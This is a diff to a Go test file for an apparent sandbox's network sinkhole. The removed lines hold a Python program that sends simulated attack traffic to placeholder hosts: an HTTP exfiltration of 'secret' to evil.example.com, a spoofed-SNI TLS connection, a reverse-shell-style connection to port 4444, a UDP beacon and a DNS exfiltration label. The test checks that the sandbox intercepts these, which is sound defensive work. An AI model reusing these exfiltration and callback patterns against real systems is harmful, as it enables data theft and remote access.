@@ -89,66 +89,11 @@ func dumpNet(res *moat.Result) string {
 	return b.String()
 }
 
-const exfilLabel = "x123456789abcdef0123456789abcdef0123456789abcdef0123456789abcde" // 63 bytes
-
+// TestNetworkSinkhole: the shared sinkhole case (moattest.Sinkhole), and
+// native's layer naming it.
 func TestNetworkSinkhole(t *testing.T) {
-	hostPort, hostAccepted := hostListener(t)
-	prog := `
-import socket, ssl, urllib.request
-r = urllib.request.urlopen("http://evil.example.com/steal?x=1", data=b"secret", timeout=10)
-print("http", r.status, r.read())
-
-raw = socket.create_connection(("198.51.100.1", 443), timeout=10)
-# The system store holds the run's CA: the sink's leaf for the SNI verifies.
-t = ssl.create_default_context().wrap_socket(raw, server_hostname="bank.example")
-print("tls verified", t.getpeercert()["subject"])
-t.close()
-
-s = socket.create_connection(("203.0.113.9", 4444), timeout=10)
-s.sendall(b"id\n")
-s.close()
-
-u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-u.sendto(b"beacon", ("198.51.100.7", 9999))
-
-print("dns", socket.gethostbyname("` + exfilLabel + `.exfil.example"))
-
-# 127.0.0.1 inside is the sandbox's own loopback, not the host's.
-try:
-    socket.create_connection(("127.0.0.1", ` + fmt.Sprint(hostPort) + `), timeout=5)
-    print("loopback connected")
-except ConnectionRefusedError:
-    print("loopback refused")
-`
-	res := runNet(t, moat.NetworkSinkhole, prog)
-	for _, w := range []string{"http 200 b''", "tls verified ((('commonName', 'bank.example'),),)", "dns 198.18.", "loopback refused"} {
-		if !strings.Contains(res.Stdout, w) {
-			t.Errorf("stdout lacks %q:\n%s", w, res.Stdout)
-		}
-	}
-	checks := []struct {
-		what string
-		ev   *moat.Event
-	}{
-		{"dns evil.example.com", netEvent(res, "dns", "evil.example.com", "sinkholed A 198.18.")},
-		{"http connect", netEvent(res, "connect", "evil.example.com", "host=evil.example.com", "/steal?x=1", "secret")},
-		{"tls sni", netEvent(res, "connect", "198.51.100.1:443", "sni=bank.example decrypted")},
-		{"reverse shell", netEvent(res, "connect", "203.0.113.9:4444", "sinkholed tcp", `id\n`)},
-		{"udp", netEvent(res, "connect", "198.51.100.7:9999", "sinkholed udp", "beacon")},
-		{"dns exfil label", netEvent(res, "dns", exfilLabel+".exfil.example")},
-	}
-	for _, c := range checks {
-		if c.ev == nil {
-			t.Errorf("no event for %s; network events:\n%s", c.what, dumpNet(res))
-		}
-	}
-	if ev := netEvent(res, "connect", fmt.Sprintf("127.0.0.1:%d", hostPort)); ev != nil {
-		t.Errorf("loopback connection was intercepted: %+v", ev)
-	}
-	time.Sleep(100 * time.Millisecond)
-	if n := hostAccepted.Load(); n != 0 {
-		t.Errorf("the host's 127.0.0.1:%d got %d connections from a sinkholed sandbox", hostPort, n)
-	}
+	moattest.RequireBackend(t, "native")
+	res := moattest.Sinkhole(t, newBackend(), nil)
 	if !hasLayer(res, "network-namespace", "sinkhole") {
 		t.Errorf("layers: %+v", res.Layers)
 	}
